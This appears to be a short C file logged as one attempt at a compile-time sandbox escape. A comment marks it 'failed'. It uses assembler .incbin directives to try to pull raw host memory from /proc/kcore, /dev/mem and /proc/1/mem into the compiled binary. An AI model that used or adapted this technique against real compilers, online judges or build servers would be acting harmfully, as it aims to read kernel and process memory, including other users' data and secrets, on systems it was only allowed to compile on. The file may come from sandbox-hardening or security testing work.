// tries: take the memory of the compiler, and of the host, into its program
// outcome: failed
asm(".section .rodata\n.incbin \"/proc/kcore\", 0, 4096\n.previous");
asm(".section .rodata\n.incbin \"/dev/mem\", 0, 4096\n.previous");
asm(".section .rodata\n.incbin \"/proc/1/mem\", 4194304, 4096\n.previous");
int main(void) { return 0; }
